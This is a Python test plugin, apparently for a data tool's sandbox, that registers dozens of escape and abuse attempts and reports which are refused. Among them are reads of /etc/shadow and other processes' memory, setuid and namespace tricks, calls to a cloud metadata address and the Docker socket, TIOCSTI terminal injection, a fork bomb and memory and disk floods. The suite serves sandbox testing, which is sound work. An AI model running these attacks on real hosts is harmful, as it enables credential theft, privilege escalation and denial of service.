"""A plugin that attacks: `python hostile.py ATTACK CONFIG`. One that succeeds prints what it got; one that is refused says why.

Runs in the sandbox, with the standard library only.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import resource
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterable, Mapping
from functools import partial
from pathlib import Path
from typing import Any

ATTACKS: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {}
MIB = 1 << 20
# Unlike PTRACE_ATTACH, it stops nobody.
PTRACE_SEIZE = 0x4206
LIBC = ctypes.CDLL(None, use_errno=True)


class RefusedError(Exception):
    """The attack failed, as it should."""


def attack(stopped_by: str) -> Callable[[Callable[[dict[str, Any]], Any]], Callable[[dict[str, Any]], Any]]:
    """Registers an attack, with what stops it where the level is `strict`."""

    def register(function: Callable[[dict[str, Any]], Any]) -> Callable[[dict[str, Any]], Any]:
        ATTACKS[function.__name__] = (function, stopped_by)
        return function

    return register


def each(verb: str, tries: Mapping[Any, Callable[[], object]]) -> list[str]:
    """What was not refused.

    Raises:
        RefusedError: All of it was: lists why.
    """
    done, refusals = [], []
    for what, action in tries.items():
        try:
            got = action()
        except OSError as error:
            refusals.append(f"{what} ({error.strerror or error})")
        else:
            done.append(f"{what}: {str(got)[:100]}")
    if done:
        return done
    raise RefusedError(f"cannot {verb} {', '.join(refusals)}")


def call(name: str, *arguments: object) -> int:
    result = int(getattr(LIBC, name)(*arguments))
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def syscall(number: int, *arguments: object) -> int:
    return call("syscall", *(ctypes.c_long(one) if isinstance(one, int) else one for one in (number, *arguments)))


def read(path: str | Path) -> str:
    with open(path, "rb", buffering=0) as file:
        os.set_blocking(file.fileno(), False)
        return repr((file.read(4096) or b"")[:60])


def write(path: str | Path) -> None:
    with open(path, "a") as file:
        file.write("planted")


def with_each(verb: str, action: Callable[[Any], object], things: Iterable[Any]) -> list[str]:
    """The same action for each of several things."""
    return each(verb, {str(thing): partial(action, thing) for thing in things})


def reads(paths: Iterable[str | Path]) -> list[str]:
    return with_each("read", read, paths)


def writes(paths: Iterable[str | Path]) -> list[str]:
    return with_each("write", write, paths)


def connect(family: int, address: Any, kind: int = socket.SOCK_STREAM) -> str:
    with socket.socket(family, kind) as made:
        made.settimeout(3)
        made.connect(address)
        made.sendall(b"x")
        return "connected"


# Files.


@attack("mounts, Landlock")
def read_another_tenants_files(config: dict[str, Any]) -> object:
    """Reads what another tenant's run has written beside it."""
    return reads([config["tenant"], f"/proc/self/root{config['tenant']}", f"/usr/..{config['tenant']}"])


@attack("mounts, Landlock")
def read_accounts(config: dict[str, Any]) -> object:
    """Reads `/etc/shadow`, `/etc/sudoers`, keys of the host."""
    return reads(["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssl/private", "/etc/ssh", "/etc/machine-id"])


@attack("mounts, Landlock")
def read_state(config: dict[str, Any]) -> object:
    """Reads Dativo's state of this project, and writes to it."""
    with contextlib.suppress(RefusedError):
        return reads([config["state"]])
    return writes([config["state"], Path(config["state"]).parent / "planted"])


@attack("mounts, Landlock")
def read_secrets_of_the_run(config: dict[str, Any]) -> object:
    """Reads the run's private directory, where the configurations of other connectors lie."""
    with contextlib.suppress(RefusedError):
        return reads([config["secret"]])
    return with_each("list", os.listdir, [config["private"]])


@attack("mounts, Landlock")
def read_homes(config: dict[str, Any]) -> object:
    """Finds files in homes, in the project, and in what is mounted on the host."""
    own = tuple(os.path.realpath(path) for path in (sys.prefix, sys.base_prefix, config["writable"], *config["code"]))
    for place in config["folders"]:
        for folder, _, names in os.walk(place):
            if names and not (folder + "/").startswith(tuple(f"{path}/" for path in own)):
                return f"{folder}/{names[0]}"
    raise RefusedError("cannot find a file of anybody's")


@attack("mounts, Landlock")
def search_for_secrets(config: dict[str, Any]) -> object:
    """Searches every file and every process that it can read for a secret of the host's."""
    secret, looked = config["half"].encode() + b"-of-the-host", 0
    for folder, _, names in os.walk("/"):
        if folder.startswith(("/usr", "/sys", sys.prefix, sys.base_prefix)):
            continue
        for name in names:
            path = os.path.join(folder, name)
            if path.endswith(("/pagemap", "/kmsg", "/kcore", "/trace_pipe")) or not os.path.isfile(path):
                continue
            with contextlib.suppress(OSError), open(path, "rb", buffering=0) as file:
                os.set_blocking(file.fileno(), False)
                looked += 1
                if secret in (file.read(MIB) or b""):
                    return f"found in {path}"
    raise RefusedError(f"cannot find a secret in {looked} files")


@attack("read-only mounts, Landlock, a user of its own")
def write_to_the_system(config: dict[str, Any]) -> object:
    """Writes to the system's folders."""
    return writes(
        f"{place}/planted" for place in ("", "/usr", "/usr/bin", "/etc", "/lib", "/var/tmp", "/run", "/dev", "/sys", "/dativo")
    )


@attack("read-only mounts, Landlock")
def change_its_code(config: dict[str, Any]) -> object:
    """Changes its own file, its configuration, the program that confines it; links its file and changes the link."""

    def linked() -> None:
        os.link(__file__, "/tmp/link")
        write("/tmp/link")

    def change(path: str) -> None:
        os.chmod(path, 0o666)
        write(path)

    tries = {path: partial(change, path) for path in (__file__, sys.argv[2])}
    return each("change", {**tries, "a link": linked, "beside it": partial(write, Path(__file__).with_name("planted.py"))})


@attack("read-only mounts, Landlock")
def change_python(config: dict[str, Any]) -> object:
    """Plants modules in the Python installation and its packages."""
    places = {sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), os.path.dirname(sys.executable)}
    packages = [f"{place}/planted.pth" for place in sys.path if place.endswith("site-packages")]
    return writes([*(f"{place}/planted" for place in sorted(places)), *packages, os.path.realpath(sys.executable)])


@attack("mounts, the process namespace, Landlock")
def escape_by_proc(config: dict[str, Any]) -> object:
    """Takes `/proc/PID/root`, `/proc/PID/cwd` and `/proc/PID/mem` of others as a way out."""
    ways = [f"/proc/{pid}/{way}" for pid in ("1", "self", str(os.getppid()), str(config["pid"])) for way in ("root", "cwd")]
    return reads([*(f"{way}{config['tenant']}" for way in ways), "/proc/1/mem", f"/proc/{config['pid']}/mem", "/proc/1/environ"])


@attack("closed descriptors")
def escape_by_descriptor(config: dict[str, Any]) -> object:
    """Looks for a file, socket or folder that was left open for it."""
    found = {}
    for fd in range(3, 4096):
        with contextlib.suppress(OSError):
            os.fstat(fd)
            found[fd] = os.readlink(f"/proc/self/fd/{fd}")
    # Its parent's as well, which are the sandbox's own.
    for pid in ("1", str(os.getppid())):
        with contextlib.suppress(OSError):
            found |= {int(name) * -1: os.readlink(f"/proc/{pid}/fd/{name}") for name in os.listdir(f"/proc/{pid}/fd")}
    kinds = [stat.S_IFMT(os.fstat(fd).st_mode) for fd in (0, 1, 2)]
    if not found and kinds == [stat.S_IFCHR, stat.S_IFIFO, stat.S_IFIFO]:
        raise RefusedError("cannot find an open descriptor besides stdin, stdout and stderr")
    return [found, kinds]


@attack("no capabilities, `nodev`")
def make_devices(config: dict[str, Any]) -> object:
    """Makes device nodes of the disk and of memory, and opens those of the host."""
    devices = [f"/dev/{name}" for name in ("vda", "sda", "mem", "kmsg", "fuse", "kvm", "ptmx")]
    tries = {
        "a disk": lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0)),
        "memory": lambda: os.mknod("/tmp/memory", 0o20666, os.makedev(1, 1)),
        **{path: partial(read, path) for path in devices},
    }
    return each("make or open", tries)


@attack("`no_new_privs`, `nosuid`")
def run_setuid_programs(config: dict[str, Any]) -> object:
    """Runs programs that are setuid root, also one that it makes itself."""
    code = "import os; print(os.geteuid(), open('/proc/self/status').read().partition('CapEff:')[2].split()[0])"
    own = Path(os.environ["TMPDIR"], "own")
    own.write_bytes(Path("/bin/cat").read_bytes())
    own.chmod(0o6755)
    ran = ""
    with contextlib.suppress(OSError):
        ran = subprocess.run([own, "/proc/self/status"], capture_output=True, text=True).stdout
    told = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout
    euid, capabilities = told.split() if told else (str(os.geteuid()), "0")
    tells = [line for line in ran.splitlines() if line.startswith(("Uid:", "CapEff:"))]
    became_root = any(line.split()[2] == "0" if line.startswith("Uid:") else int(line.split()[1], 16) for line in tells)
    su = subprocess.run(["/bin/su", "-c", "cat /etc/shadow"], capture_output=True, text=True, stdin=subprocess.DEVNULL)
    if became_root or int(capabilities, 16) or (euid == "0" and os.getuid() != 0) or su.returncode == 0:
        return [tells, euid, capabilities, su.stdout]
    raise RefusedError(f"cannot gain privileges: uid {euid}, capabilities {capabilities}")


# Network.


@attack("a network of its own")
def connect_out(config: dict[str, Any]) -> object:
    """Connects to addresses outside by TCP, also to the metadata service of clouds."""
    outside = [("192.0.2.1", 80), ("169.254.169.254", 80), (config["address"], config["port"])]
    return with_each("connect to", partial(connect, socket.AF_INET), outside)


@attack("a network of its own")
def send_datagrams(config: dict[str, Any]) -> object:
    """Sends by UDP, over IPv4 and IPv6, and to the broadcast address."""
    places = {
        "192.0.2.1": socket.AF_INET,
        config["address"]: socket.AF_INET,
        "255.255.255.255": socket.AF_INET,
        "2001:db8::1": socket.AF_INET6,
    }

    def send(host: str, family: int) -> int:
        with socket.socket(family, socket.SOCK_DGRAM) as made:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            return made.sendto(b"secret", (host, 53))

    return each("send to", {host: partial(send, host, family) for host, family in places.items()})


@attack("a network of its own, no resolver")
def ask_for_names(config: dict[str, Any]) -> object:
    """Hides a secret in a name and has it resolved."""
    return with_each("resolve", lambda name: socket.getaddrinfo(name, 80), ["secret.example.com", "db.example"])


@attack("a network of its own")
def use_services_of_the_host(config: dict[str, Any]) -> object:
    """Connects to what listens on the host's loopback addresses."""
    places = [("127.0.0.1", config["port"]), ("localhost", config["port"]), ("0.0.0.0", config["port"])]
    return with_each("connect to", partial(connect, socket.AF_INET), places)


@attack("a network of its own, mounts, Landlock")
def use_unix_sockets(config: dict[str, Any]) -> object:
    """Connects to Unix sockets of the host: abstract ones, Docker's, one in another's folder."""
    names = [
        "\0" + config["abstract"],
        "/var/run/docker.sock",
        "/run/docker.sock",
        config["socket"],
        "/run/dbus/system_bus_socket",
    ]
    return with_each("connect to", partial(connect, socket.AF_UNIX), names)


@attack("seccomp")
def open_rare_sockets(config: dict[str, Any]) -> object:
    """Opens raw and packet sockets, and those of families with a history of holes."""
    families = {
        "raw": (2, 3),
        "packet": (17, 3),
        "vsock": (40, 1),
        "alg": (38, 5),
        "can": (29, 3),
        "tipc": (30, 5),
        "bluetooth": (31, 3),
    }
    return each("open", {name: partial(socket.socket, *pair) for name, pair in families.items()})


@attack("the relay outside")
def reach_past_a_declared_host(config: dict[str, Any]) -> object:
    """Uses a host that it may reach as a way to other ports of it, and to other hosts."""
    inside = socket.gethostbyname(config["declared"])
    places = [
        (inside, config["other_port"]),
        ("127.0.0.1", config["other_port"]),
        ("127.0.0.1", 22),
        ("192.0.2.1", config["declared_port"]),
    ]
    return with_each("connect to", partial(connect, socket.AF_INET), places)


# Processes.


@attack("the process namespace")
def see_processes(config: dict[str, Any]) -> object:
    """Reads command lines and environments of other processes."""
    own, found, names = {os.getpid(), os.getppid(), 1}, [], [str(config["pid"])]
    with contextlib.suppress(OSError):
        names += os.listdir("/proc")
    for name in names:
        if name.isdigit() and int(name) not in own:
            for what in ("cmdline", "environ"):
                with contextlib.suppress(OSError):
                    found.append(read(f"/proc/{name}/{what}"))
    if found:
        return found[:5]
    raise RefusedError("cannot see other processes")


@attack("the process namespace, seccomp")
def signal_and_trace(config: dict[str, Any]) -> object:
    """Signals and traces others, reads their memory, takes their descriptors."""
    pids = [config["pid"], config["dativo"], 1]

    def take(pid: int) -> int:
        return syscall(438, os.pidfd_open(pid), 0, 0)

    tries: dict[str, Callable[[], object]] = {}
    for pid in pids:
        if pid != 1:
            tries[f"signal {pid}"] = partial(os.kill, pid, 0)
        tries[f"trace {pid}"] = partial(call, "ptrace", ctypes.c_long(PTRACE_SEIZE), ctypes.c_long(pid), None, None)
        tries[f"read {pid}"] = partial(syscall, 310, pid, None, 0, None, 0, 0)
        tries[f"take from {pid}"] = partial(take, pid)
    return each("do", tries)


@attack("the process namespace, which ends with its first process")
def outlive_its_parent(config: dict[str, Any]) -> object:
    """Leaves processes behind: in another session, forked twice, deaf to signals."""
    for _ in range(3):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                for fd in (0, 1, 2):
                    os.close(fd)
                os.environ.clear()
                while True:
                    with open(Path(config["writable"], "alive"), "a") as file:
                        file.write("x")
                    time.sleep(0.05)
            os._exit(0)
    time.sleep(0.3)
    return "left"


@attack("the limit of processes")
def fork_without_end(config: dict[str, Any]) -> object:
    """A fork bomb."""
    count = 0
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    while count < 20000:
        try:
            if os.fork() == 0:
                while True:
                    with contextlib.suppress(OSError):
                        os.fork()
                    time.sleep(1)
        except OSError as error:
            raise RefusedError(f"cannot fork after {count} processes: {error.strerror}") from error
        count += 1
    return count


@attack("the limit of processes")
def start_threads_without_end(config: dict[str, Any]) -> object:
    """Starts threads until something gives."""
    for count in range(20000):
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError as error:
            raise RefusedError(f"cannot start a thread after {count}: {error}") from error
    return "20000 threads"


# Room.


@attack("the limit of memory")
def fill_memory(config: dict[str, Any]) -> object:
    """Takes all the memory."""
    blocks = []
    while len(blocks) < 16384:
        blocks.append(b"x" * MIB)
    return "16 GiB"


@attack("the size of `/tmp`")
def fill_tmp(config: dict[str, Any]) -> object:
    """Fills the temporary places."""
    written = 0
    refusals = []
    for folder in (os.environ["TMPDIR"], "/dev/shm"):
        with contextlib.ExitStack() as stack:
            try:
                for number in range(64):
                    file = stack.enter_context(open(f"{folder}/filler-{number}", "wb"))
                    for _ in range(8):
                        file.write(b"x" * MIB)
                        file.flush()
                        written += 1
            except OSError as error:
                refusals.append(f"{folder} ({error.strerror})")
            with contextlib.suppress(OSError):
                stack.close()
    if len(refusals) == 2 and written < 300:
        raise RefusedError(f"cannot write more than {written} MiB: {', '.join(refusals)}")
    return written


@attack("the size of files")
def write_a_huge_file(config: dict[str, Any]) -> object:
    """Writes a file without end into a folder that it may write to, also by making it sparse."""
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    path = Path(config["writable"], "huge")

    def sparse() -> None:
        with path.open("wb") as file:
            file.truncate(1 << 40)

    def dense() -> None:
        with path.open("wb") as file:
            for _ in range(4096):
                file.write(bytes(MIB))

    return each("write", {"a sparse file": sparse, "4 GiB": dense})


@attack("the limit of open files")
def open_files_without_end(config: dict[str, Any]) -> object:
    """Opens files until something gives, after raising its own limits."""
    with contextlib.suppress(OSError, ValueError):
        resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 20, 1 << 20))
    held = []
    try:
        while len(held) < 5000:
            held.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as error:
        raise RefusedError(f"cannot open more than {len(held)} files: {error.strerror}") from error
    return len(held)


@attack("the limits, which only sink")
def raise_its_limits(config: dict[str, Any]) -> object:
    """Raises its own limits, and leaves its control group."""
    infinite = resource.RLIM_INFINITY
    kinds = {
        "files": resource.RLIMIT_NOFILE,
        "size": resource.RLIMIT_FSIZE,
        "core": resource.RLIMIT_CORE,
        "time": resource.RLIMIT_CPU,
    }

    def lift(kind: int) -> None:
        try:
            resource.setrlimit(kind, (infinite, infinite))
        except ValueError as error:
            raise OSError(1, str(error)) from error

    tries: dict[str, Callable[[], object]] = {name: partial(lift, kind) for name, kind in kinds.items()}
    for folder in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/pids"):
        tries[f"{folder}/group"] = partial(os.mkdir, f"{folder}/group")
        tries[f"{folder}/memory.max"] = partial(write, f"{folder}/memory.max")
        tries[f"{folder}/cgroup.procs"] = partial(write, f"{folder}/cgroup.procs")
    tries["priority"] = lambda: os.setpriority(os.PRIO_PROCESS, 0, -10)
    tries["oom score"] = lambda: Path("/proc/self/oom_score_adj").write_text("-1000")
    return each("raise", tries)


@attack("the limit of processor time")
def use_processors_without_end(config: dict[str, Any]) -> object:
    """Computes for ever in many processes, which nobody waits for."""
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    until = time.monotonic() + 60
    for _ in range(3):
        os.fork()
    while time.monotonic() < until:
        with contextlib.suppress(BlockingIOError):
            if os.fork() == 0:
                spin = time.monotonic() + 0.3
                while time.monotonic() < spin:
                    pass
                os._exit(0)
        time.sleep(0.05)
    return "a minute"


@attack("the limit of time")
def never_end(config: dict[str, Any]) -> object:
    """Sleeps for ever, deaf to SIGTERM."""
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    time.sleep(60)
    return "a minute"


@attack("the limit of output")
def flood_stdout(config: dict[str, Any]) -> object:
    """Writes to stdout without end."""
    block = (json.dumps({"type": "RECORD", "text": "x" * 900}) + "\n").encode() * 256
    for _ in range(1 << 14):
        os.write(1, block)
    return "4 GiB"


@attack("the limit of output; the decoder's limit of a line")
def write_an_endless_line(config: dict[str, Any]) -> object:
    """Writes one line that does not end."""
    os.write(1, b'{"type": "RECORD", "text": "')
    for _ in range(1 << 12):
        os.write(1, b"x" * MIB)
    return "4 GiB"


@attack("the log's limit; lines that are cut")
def flood_stderr(config: dict[str, Any]) -> object:
    """Floods the log, with short lines and with one of 64 MiB."""
    line = b"INFO nothing is wrong " + b"y" * 200 + b"\n"
    for _ in range(256):
        os.write(2, line * 512)
    for _ in range(64):
        os.write(2, b"z" * MIB)
    os.write(2, b"\n")
    raise RefusedError("cannot do more than write")


@attack("the limit of core files")
def dump_core(config: dict[str, Any]) -> object:
    """Crashes so that a core file is written, and has it written elsewhere."""
    child = subprocess.Popen([sys.executable, "-c", "import os; os.abort()"], cwd=config["writable"], stderr=subprocess.DEVNULL)
    child.wait()
    cores = [name for name in os.listdir(config["writable"]) if "core" in name]
    with contextlib.suppress(RefusedError):
        return [*cores, *writes(["/proc/sys/kernel/core_pattern", "/proc/self/coredump_filter"])]
    if child.returncode == -signal.SIGABRT and not cores:
        raise RefusedError("cannot leave a core file")
    return cores


# The kernel.


@attack("seccomp, no capabilities")
def mount_and_change_root(config: dict[str, Any]) -> object:
    """Mounts, unmounts, changes its root, by old calls and by new ones."""
    tmp = os.environ["TMPDIR"].encode()
    tries = {
        "mount": lambda: call("mount", b"none", tmp, b"tmpfs", 0, None),
        "remount": lambda: call("mount", None, b"/", None, 32, None),
        "umount": lambda: call("umount2", b"/tmp", 2),
        "pivot_root": lambda: syscall(155, b"/tmp", b"/tmp"),
        "chroot": lambda: os.chroot(tmp),
        "open_tree": lambda: syscall(428, -100, b"/", 1),
        "fsopen": lambda: syscall(430, b"tmpfs", 0),
        "mount_setattr": lambda: syscall(442, -100, b"/", 0, bytes(32), 32),
        "open_by_handle_at": lambda: syscall(304, -100, bytes(32), 0),
        "statmount": lambda: syscall(457, bytes(24), bytes(64), 64, 0),
    }
    return each("do", tries)


@attack("seccomp")
def make_namespaces(config: dict[str, Any]) -> object:
    """Makes namespaces, in which it would be root, and enters those of others."""
    tries = {
        "unshare user": lambda: call("unshare", 0x10000000),
        "unshare all": lambda: call("unshare", 0x7E020080),
        "clone": lambda: syscall(56, 0x10000000 | signal.SIGCHLD, None, None, None, 0),
        "clone3": lambda: syscall(435, bytes(88), 88),
        "setns": lambda: call("setns", os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
        "unshare program": lambda: subprocess.run(["unshare", "-r", "true"], check=True, capture_output=True),
    }
    with contextlib.suppress(subprocess.CalledProcessError):
        return each("do", tries)
    tries.pop("unshare program")
    return each("do", tries)


@attack("seccomp, no capabilities")
def change_the_kernel(config: dict[str, Any]) -> object:
    """Loads modules and kernels, sets the clock and the host's name, restarts the machine, writes to `/proc/sys`."""
    tries = {
        "init_module": lambda: syscall(175, b"", 0, b""),
        "finit_module": lambda: syscall(313, 0, b"", 0),
        "delete_module": lambda: syscall(176, b"x", 0),
        "kexec_load": lambda: syscall(246, 0, 0, None, 0),
        "reboot": lambda: syscall(169, 0xFEE1DEAD, 672274793, 0, None),
        "settimeofday": lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
        "sethostname": lambda: socket.sethostname("x"),
        "swapoff": lambda: syscall(168, b"/dev/zero"),
        "sysrq": lambda: Path("/proc/sysrq-trigger").write_text("h"),
        "hostname": lambda: Path("/proc/sys/kernel/hostname").write_text("x"),
        "ip_forward": lambda: Path("/proc/sys/net/ipv4/ip_forward").write_text("1"),
        "iopl": lambda: syscall(172, 3),
    }
    return each("do", tries)


@attack("seccomp")
def use_risky_calls(config: dict[str, Any]) -> object:
    """Uses what has a history of holes: io_uring, bpf, userfaultfd, perf, keys; calls of 32 bits, calls newer than the filter."""
    tries = {
        "io_uring": lambda: syscall(425, 8, bytes(120)),
        "bpf": lambda: syscall(321, 0, bytes(128), 128),
        "userfaultfd": lambda: syscall(323, 1),
        "perf_event_open": lambda: syscall(298, bytes(128), 0, -1, -1, 0),
        "keyctl": lambda: syscall(250, 0, -3, 0),
        "add_key": lambda: syscall(248, b"user", b"x", b"x", 1, -3),
        "personality": lambda: syscall(135, 0x0040000),
        "x32": lambda: syscall(0x40000000 + 39),
        "newer": lambda: syscall(470, 0, 0, 0),
        "memfd_secret": lambda: syscall(447, 0),
    }
    return each("do", tries)


@attack("seccomp, no terminal")
def type_into_a_terminal(config: dict[str, Any]) -> object:
    """Puts characters into the input of Dativo's terminal."""
    import fcntl

    def type_into(fd: int) -> None:
        fcntl.ioctl(fd, 0x5412, b"x")

    tries = {f"descriptor {fd}": partial(type_into, fd) for fd in (0, 1, 2)}

    def open_and_type(path: str) -> None:
        type_into(os.open(path, os.O_RDWR))

    places = {path: partial(open_and_type, path) for path in ("/dev/tty", "/dev/console", "/dev/pts/0")}
    return each("type into", {**tries, **places, "a new terminal": lambda: type_into(os.openpty()[1])})


@attack("a clean environment")
def read_its_environment(config: dict[str, Any]) -> object:
    """Looks for variables of Dativo's environment in its own."""
    known = {
        "PATH",
        "HOME",
        "TMPDIR",
        "LANG",
        "LANGUAGE",
        "TZ",
        "PWD",
        "DATIVO_PROCESS",
        "SHLVL",
        "_",
        *config.get("declared_variables", ()),
    }
    found = {name: value for name, value in os.environ.items() if name not in known and not name.startswith("LC_")}
    if found:
        return found
    raise RefusedError("cannot find a variable that was not declared")


def main() -> None:
    name, path = sys.argv[1:]
    config = json.loads(Path(path).read_text())
    try:
        got = ATTACKS[name][0](config)
    except RefusedError as error:
        # A source says so on stdout; here, its last words are enough.
        print(f"ERROR {error}", file=sys.stderr)
        sys.stderr.flush()
        os._exit(1)
    print(json.dumps({"got": got}, default=str))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
